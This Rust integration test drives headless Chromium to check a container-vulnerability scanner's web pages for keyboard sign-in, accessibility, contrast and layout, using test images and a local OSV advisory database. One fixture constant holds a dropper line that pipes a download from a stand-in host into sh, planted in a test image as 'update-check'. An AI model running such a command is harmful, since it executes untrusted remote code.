//! The server's pages in Chromium: signing in by the keyboard, every page light and dark, on a desktop and on a phone, without scripts.
//!
//! Chromium is driven by its debugging protocol over a pipe (<https://chromedevtools.github.io/devtools-protocol/>). The pictures are in
//! `target/pages/`; those of the manual are among them.

use crate::cluster::free_port;
use crate::promote::wait;
use crate::server::{Process, first_token, get, line, process};
use crate::services::{Running, notifications, push, registry, run};
use assay_test::image::{Builder, Tree, digest};
use real_tests::{tool, workspace};
use serde_json::{Value, json};
use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};

/// A browser and one page of it.
struct Chromium {
    child: Child,
    commands: ChildStdin,
    answers: BufReader<ChildStdout>,
    session: Option<String>,
    number: u64,
    /// What the page complained of: errors, and what its policy forbade.
    complaints: Vec<String>,
    /// The statuses of what was fetched.
    statuses: Vec<(String, u64)>,
    loaded: bool,
}

impl Drop for Chromium {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Chromium {
    fn start(program: &Path, folder: &Path) -> Self {
        // The protocol is spoken over the descriptors 3 and 4.
        let mut child = Command::new("sh")
            .args(["-c", "exec \"$0\" \"$@\" 3<&0 4>&1 >/dev/null 2>&1"])
            .arg(program)
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
            ])
            .args(["--disable-background-networking", "--disable-component-update", "--hide-scrollbars"])
            .arg(format!("--user-data-dir={}", folder.join("chromium").display()))
            .args(["--remote-debugging-pipe", "about:blank"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let (commands, answers) = (child.stdin.take().unwrap(), BufReader::new(child.stdout.take().unwrap()));
        let mut browser = Self {
            child,
            commands,
            answers,
            session: None,
            number: 0,
            complaints: Vec::new(),
            statuses: Vec::new(),
            loaded: false,
        };
        let page = browser.call("Target.createTarget", &json!({ "url": "about:blank" }));
        let attached = json!({ "targetId": page["targetId"], "flatten": true });
        let session = browser.call("Target.attachToTarget", &attached);
        browser.session = session["sessionId"].as_str().map(str::to_owned);
        for domain in
            ["Page.enable", "Network.enable", "Log.enable", "Runtime.enable", "Accessibility.enable"]
        {
            browser.call(domain, &json!({}));
        }
        browser.call("Emulation.setScriptExecutionDisabled", &json!({ "value": true }));
        browser
    }

    /// Reads what Chromium says next, and keeps what matters of it.
    fn next(&mut self) -> Value {
        let mut bytes = Vec::new();
        self.answers.read_until(0, &mut bytes).unwrap();
        bytes.pop();
        assert!(!bytes.is_empty(), "Chromium ended");
        let said: Value = serde_json::from_slice(&bytes).unwrap();
        let params = &said["params"];
        match said["method"].as_str() {
            Some("Page.loadEventFired") => self.loaded = true,
            Some("Log.entryAdded") => self.complaints.push(params["entry"]["text"].to_string()),
            Some("Runtime.exceptionThrown") => self.complaints.push(params.to_string()),
            Some("Network.responseReceived") => {
                let response = &params["response"];
                let address = response["url"].as_str().unwrap_or_default().to_owned();
                self.statuses.push((address, response["status"].as_u64().unwrap_or_default()));
            }
            _ => {}
        }
        said
    }

    fn call(&mut self, method: &str, params: &Value) -> Value {
        self.number += 1;
        let mut command = json!({ "id": self.number, "method": method, "params": params });
        if let Some(session) = &self.session {
            command["sessionId"] = json!(session);
        }
        self.commands.write_all(format!("{command}\0").as_bytes()).unwrap();
        loop {
            let said = self.next();
            if said["id"] == self.number {
                assert!(said["error"].is_null(), "{method}: {said}");
                return said["result"].clone();
            }
        }
    }

    fn wait_until_loaded(&mut self) {
        while !self.loaded {
            self.next();
        }
    }

    fn open(&mut self, address: &str) {
        self.loaded = false;
        let opened = self.call("Page.navigate", &json!({ "url": address }));
        assert!(opened["errorText"].is_null(), "{address}: {opened}");
        self.wait_until_loaded();
    }

    /// Evaluates an expression in the page, by the debugger: the page itself runs nothing.
    fn evaluate(&mut self, expression: &str) -> Value {
        let result =
            self.call("Runtime.evaluate", &json!({ "expression": expression, "returnByValue": true }));
        assert!(result["exceptionDetails"].is_null(), "{expression}: {result}");
        result["result"]["value"].clone()
    }

    fn press(&mut self, key: &str, code: u32, text: &str) {
        for (kind, text) in [("keyDown", text), ("keyUp", "")] {
            let event =
                json!({ "type": kind, "key": key, "code": key, "windowsVirtualKeyCode": code, "text": text });
            self.call("Input.dispatchKeyEvent", &event);
        }
    }

    fn show(&mut self, width: u32, height: u32, phone: bool, dark: bool) {
        let scale = if phone { 2 } else { 1 };
        let screen = json!({ "width": width, "height": height, "deviceScaleFactor": scale, "mobile": phone });
        self.call("Emulation.setDeviceMetricsOverride", &screen);
        let scheme = if dark { "dark" } else { "light" };
        let media = json!({ "features": [{ "name": "prefers-color-scheme", "value": scheme }] });
        self.call("Emulation.setEmulatedMedia", &media);
    }

    fn picture(&mut self, file: &Path) {
        let shot = self.call("Page.captureScreenshot", &json!({ "format": "png" }));
        fs::write(file, base64(shot["data"].as_str().unwrap())).unwrap();
    }
}

/// Reads base64 (RFC 4648).
pub(crate) fn base64(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let (mut bits, mut count) = (0_u32, 0);
    for byte in text.bytes() {
        let digit = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => continue,
        };
        bits = bits << 6 | u32::from(digit);
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push(u8::try_from(bits >> count & 0xff).unwrap());
        }
    }
    bytes
}

/// What is wrong with a page for people who cannot see it or have no mouse, and what does not fit. Contrast is that of WCAG 2.2.
const CHECKS: &str = r#"
(() => {
  const wrong = [];
  const one = (selector) => document.querySelectorAll(selector).length;
  if (!document.title || document.documentElement.lang !== "en") wrong.push("title or language");
  if (one("h1") !== 1 || one("main") !== 1 || one("header") < 1) wrong.push("landmarks");
  for (const table of document.querySelectorAll("table")) {
    if (!table.caption || !table.tHead) wrong.push("table without caption or head");
    if ([...table.querySelectorAll("th")].some((head) => !head.scope)) wrong.push("heading without scope");
    if (!table.parentElement.matches(".wide[tabindex]")) wrong.push("table that the keyboard cannot scroll");
  }
  for (const field of document.querySelectorAll("input:not([type=hidden]), select"))
    if (!field.labels.length && !field.ariaLabel) wrong.push("field without label: " + field.name);
  for (const link of document.querySelectorAll("a")) if (!link.textContent.trim()) wrong.push("empty link " + link.href);
  const ids = [...document.querySelectorAll("[id]")].map((node) => node.id);
  if (new Set(ids).size !== ids.length) wrong.push("ids twice");
  for (const node of document.querySelectorAll("[aria-labelledby]"))
    if (!document.getElementById(node.getAttribute("aria-labelledby"))) wrong.push("label is missing");
  if (document.documentElement.scrollWidth > innerWidth) wrong.push("wider than the screen: " + document.documentElement.scrollWidth);
  const light = (color) => {
    const [r, g, b] = color.match(/[\d.]+/g).map(Number).map((c) => (c /= 255) <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const back = (node) => {
    for (; node; node = node.parentElement) {
      const color = getComputedStyle(node).backgroundColor;
      if (!/, 0\)$/.test(color)) return color;
    }
    return "rgb(255, 255, 255)";
  };
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const seen = new Set();
  while (texts.nextNode()) {
    const node = texts.currentNode.parentElement;
    if (!texts.currentNode.data.trim() || node.closest("svg, title, option")) continue;
    const [a, b] = [light(getComputedStyle(node).color), light(back(node))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) seen.add(node.className + " " + node.tagName + " " + ratio.toFixed(2));
  }
  for (const text of seen) wrong.push("contrast: " + text);
  return wrong;
})()
"#;

const POLICY: &str = "
apiVersion: assay.dev/v1
kind: ImagePolicy
metadata: {name: house rules, owner: platform team}
tiers:
  - {name: production, match: {namespaces: [shop, billing]}}
  - {name: development, mode: warn}
rules:
  - vulnerabilities: {max: {critical: 0}}
  - secrets: {}
exceptions:
  - {id: RISK-17, advisories: [CVE-2019-19844], owner: anna, reason: passwords are not reset by mail, approvedBy: ben, expires: 2036-01-01}
";

/// What may go from `shop` to `release`.
const RELEASE: &str = "
apiVersion: assay.dev/v1
kind: ImagePolicy
metadata: {name: release}
tiers: [{name: release}]
rules:
  - vulnerabilities: {max: {critical: 0}}
  - coverage: {ignore: [PyPI]}
";

/// A file that an incident is about; it has been in one image that was looked into.
const DROPPER: &str = "#!/bin/sh\ncurl -s https://updates.example/run | sh\n";

/// What the database knows: identifier, package, the version that fixes it, and how bad it is.
const ADVISORIES: [(&str, &str, &str, &str); 12] = [
    ("CVE-2019-19844", "django", "2.2.9", "C:H/I:H/A:H"),
    ("CVE-2022-28346", "django", "2.2.28", "C:H/I:H/A:H"),
    ("CVE-2024-24680", "django", "4.2.10", "C:N/I:N/A:H"),
    ("CVE-2018-1000656", "flask", "0.12.3", "C:N/I:N/A:H"),
    ("CVE-2023-30861", "flask", "2.2.5", "C:H/I:N/A:N"),
    ("CVE-2019-10906", "jinja2", "2.10.1", "C:H/I:N/A:N"),
    ("CVE-2021-25287", "pillow", "8.2.0", "C:H/I:N/A:H"),
    ("CVE-2023-44271", "pillow", "10.0.0", "C:N/I:N/A:H"),
    ("CVE-2018-18074", "requests", "2.20.0", "C:H/I:N/A:N"),
    ("CVE-2020-14343", "pyyaml", "5.4", "C:H/I:H/A:H"),
    ("CVE-2019-11324", "urllib3", "1.24.2", "C:N/I:L/A:N"),
    ("CVE-2018-10903", "cryptography", "2.3", "C:L/I:N/A:N"),
];

/// Builds a vulnerability database of advisories in the form of OSV (<https://ossf.github.io/osv-schema/>).
fn database(folder: &Path) -> String {
    let feed = folder.join("advisories");
    fs::create_dir_all(&feed).unwrap();
    for (id, package, fixed, impact) in ADVISORIES {
        let record = json!({
            "schema_version": "1.6.0", "id": id, "modified": "2024-06-01T00:00:00Z", "published": "2024-05-01T00:00:00Z",
            "severity": [{ "type": "CVSS_V3", "score": format!("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/{impact}") }],
            "affected": [{
                "package": { "ecosystem": "PyPI", "name": package },
                "ranges": [{ "type": "ECOSYSTEM", "events": [{ "introduced": "0" }, { "fixed": fixed }] }],
            }],
        });
        fs::write(feed.join(format!("{id}.json")), record.to_string()).unwrap();
    }
    let (from, out) = (feed.display().to_string(), folder.join("advisories.db").display().to_string());
    run(&real_tests::assay(), &["db", "build", "--from", &from, "--out", &out]);
    out
}

/// Starts a server with images that were pushed to a registry and scanned; returns it with its port, token and their digests.
fn fleet(
    folder: &Path,
    (docker_registry, skopeo, curl): (&Path, &Path, &Path),
) -> (Process, Running, u16, String, Vec<String>) {
    let database = database(folder);
    let policy = folder.join("policy.yaml").display().to_string();
    fs::write(&policy, POLICY).unwrap();
    let port = free_port();
    let listen = format!("127.0.0.1:{port}");
    let serve =
        ["serve", "--data", "data", "--listen", &listen, "--policy", &policy, "--anonymous-admission"];
    let token = first_token(folder, &[&serve[..], &["--db", &database]].concat());
    let telling = notifications(&listen, &token);
    let (registry, host) = registry(docker_registry, folder, "", &telling);
    let release = folder.join("release.yaml").display().to_string();
    fs::write(&release, RELEASE).unwrap();
    let pair = format!("{host}/shop/*={host}/release/*");
    let more = ["--db", &database, "--registry", &host, "--deep-tags", "stable", "--promote", &pair];
    let mut server = process(folder, &[&serve[..], &more, &["--promote-policy", &release]].concat());
    line(&mut server, "note: listening on ");
    let package = |tree: Tree, (name, version): (&str, &str)| {
        let path = format!("usr/lib/python3/dist-packages/{name}-{version}.dist-info/METADATA");
        tree.file(&path, format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"))
    };
    let images: [(&str, &[(&str, &str)]); 5] = [
        ("shop/web:1.3", &[("django", "2.2.1"), ("flask", "0.12"), ("pillow", "8.0.0"), ("jinja2", "2.10")]),
        ("shop/web:1.4", &[("django", "4.2.16"), ("flask", "2.3.2"), ("pillow", "10.3.0")]),
        (
            "billing/api:2024.1",
            &[("flask", "0.12"), ("requests", "2.19.0"), ("pyyaml", "5.1"), ("urllib3", "1.24")],
        ),
        ("team/tools:latest", &[("ansible", "2.9.0"), ("cryptography", "2.1")]),
        ("shop/web:stable", &[("django", "2.2.1"), ("pillow", "8.0.0")]),
    ];
    let mut digests = Vec::new();
    for (name, packages) in images {
        let mut tree = packages.iter().copied().fold(Tree::new(), package);
        if name.ends_with(":stable") {
            tree = tree.program("usr/local/bin/update-check", DROPPER);
        }
        let image = Builder::new()
            .layer(Tree::new().file("etc/base", "base"), "ADD rootfs.tar.xz /")
            .layer(tree, "RUN pip install --requirement requirements.txt")
            .build();
        push(skopeo, folder, &image, &format!("{host}/{name}"), &[]);
        digests.push(image.digest());
    }
    let shown = |path: &str| get(port, path, &token).unwrap_or_default();
    for (digest, depth) in digests.iter().zip(["fast", "fast", "fast", "fast", "deep"]) {
        wait(digest, || (shown(&format!("/api/v1/images/{digest}"))["scan"]["depth"] == depth).then_some(()));
    }
    wait("a promotion", || {
        let promotions = shown("/api/v1/promotions");
        promotions["items"].as_array()?.iter().any(|one| one["finished"].is_string()).then_some(())
    });
    let review = json!({ "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {
        "uid": "1", "kind": {"group": "", "version": "v1", "kind": "Pod"}, "operation": "CREATE", "namespace": "shop",
        "object": {"spec": {"containers": [{"image": format!("{host}/shop/web:1.3@{}", digests[0])}]}}}});
    let review_file = folder.join("review.json");
    fs::write(&review_file, review.to_string()).unwrap();
    run(
        curl,
        &[
            "--silent",
            "--fail",
            "--json",
            &format!("@{}", review_file.display()),
            &format!("http://{listen}/admission/validate"),
        ],
    );
    (server, registry, port, token, digests)
}

#[test]
fn every_page_is_fit_to_be_read_in_a_browser() {
    let (Some(chromium), Some(docker_registry), Some(skopeo), Some(curl)) =
        (tool("chromium"), tool("docker-registry"), tool("skopeo"), tool("curl"))
    else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let programs = (docker_registry.as_path(), skopeo.as_path(), curl.as_path());
    let (_server, _registry, port, token, digests) = fleet(folder.path(), programs);
    let pictures = workspace().join("target/pages");
    fs::create_dir_all(&pictures).unwrap();
    let here = format!("http://127.0.0.1:{port}");
    let mut browser = Chromium::start(&chromium, folder.path());

    // Whoever comes in is asked for a token, and gets to where they wanted with the keyboard alone.
    browser.show(1280, 800, false, false);
    browser.open(&format!("{here}/events"));
    assert_eq!(browser.evaluate("location.pathname"), "/sign-in");
    assert_eq!(browser.evaluate(CHECKS), json!([]));
    browser.picture(&pictures.join("sign-in.png"));
    assert_eq!(browser.evaluate("document.activeElement.name"), "token");
    browser.call("Input.insertText", &json!({ "text": token }));
    browser.loaded = false;
    browser.press("Enter", 13, "\r");
    browser.wait_until_loaded();
    assert_eq!(browser.evaluate("location.pathname"), "/events");
    assert_eq!(browser.evaluate("document.cookie"), "", "a script could read the session");
    let cookies = browser.call("Network.getCookies", &json!({ "urls": [here] }));
    let cookie = &cookies["cookies"][0];
    assert_eq!((&cookie["httpOnly"], &cookie["sameSite"]), (&json!(true), &json!("Strict")), "{cookies}");
    assert!(!token.contains(cookie["value"].as_str().unwrap()));

    let decision = json!({ "advisory": "CVE-2018-1000656", "digest": digests[2], "state": "false-positive",
        "reason": "the code is not reachable", "owner": "team-billing" });
    let (bearer, decide) = (format!("Authorization: Bearer {token}"), format!("{here}/api/v1/triage"));
    run(&curl, &["--silent", "--fail", "--header", &bearer, "--json", &decision.to_string(), &decide]);

    let (web, old, stable) = (&digests[0], &digests[1], &digests[4]);
    let pages = [
        ("overview", "/".to_owned(), "open findings"),
        ("images", "/images?text=shop".to_owned(), "shop/web:1.4"),
        ("image", format!("/images/{web}"), "RUN pip install"),
        ("packages", format!("/images/{web}/packages"), "pkg:pypi/django@2.2.1"),
        ("compare", format!("/images/{stable}/compare?with={old}"), "pillow"),
        ("search", "/search?text=flask".to_owned(), "flask"),
        ("advisory", "/advisories/CVE-2018-1000656".to_owned(), "billing/api"),
        ("package", "/packages?name=flask".to_owned(), "0.12"),
        ("file", format!("/files/{}", digest(DROPPER.as_bytes())), "usr/local/bin/update-check"),
        ("unknown-file", format!("/files/{}", "0".repeat(64)), "Files are known of 1 of 5 images"),
        ("promotions", "/promotions".to_owned(), "release/web:1.4"),
        ("triage", "/triage".to_owned(), "team-billing"),
        ("decision", "/triage/1".to_owned(), "the code is not reachable"),
        ("events", "/events".to_owned(), "tag-seen"),
        ("queue", "/queue".to_owned(), "osv:advisories"),
        ("policy", "/policy".to_owned(), "RISK-17"),
        ("audit", "/audit".to_owned(), "session.begin"),
        ("nothing", "/images/nothing".to_owned(), "Bad Request"),
    ];
    for (name, path, says) in &pages {
        for (width, height, phone) in [(1280, 900, false), (390, 844, true)] {
            for dark in [false, true] {
                browser.show(width, height, phone, dark);
                browser.open(&format!("{here}{path}"));
                let text = browser.evaluate("document.body.innerText");
                let text = text.as_str().unwrap();
                assert!(text.contains(says), "{path} does not say `{says}`: {text}");
                assert_eq!(browser.evaluate(CHECKS), json!([]), "{path}, {width} wide, dark: {dark}");
                let device = if phone { "phone" } else { "desktop" };
                let scheme = if dark { "dark" } else { "light" };
                browser.picture(&pictures.join(format!("{name}-{device}-{scheme}.png")));
            }
        }
    }
    let failed: Vec<_> =
        browser.statuses.iter().filter(|(at, status)| *status >= 400 && !at.ends_with("nothing")).collect();
    assert!(failed.is_empty(), "{failed:?}");
    let complaints: Vec<_> =
        browser.complaints.iter().filter(|text| !text.contains("status of 400")).collect();
    assert!(complaints.is_empty(), "{complaints:?}");

    // The first stop of the keyboard leads past the menu; and the end is signing out.
    browser.show(1280, 900, false, false);
    browser.open(&format!("{here}/"));
    browser.press("Tab", 9, "");
    assert_eq!(browser.evaluate("document.activeElement.className"), "skip");
    for _ in 0..40 {
        if browser.evaluate("document.activeElement.textContent") == "Sign out" {
            break;
        }
        browser.press("Tab", 9, "");
    }
    browser.loaded = false;
    browser.press("Enter", 13, "\r");
    browser.wait_until_loaded();
    assert_eq!(browser.evaluate("location.pathname"), "/sign-in");
    browser.open(&format!("{here}/images"));
    assert_eq!(browser.evaluate("location.pathname"), "/sign-in");
}
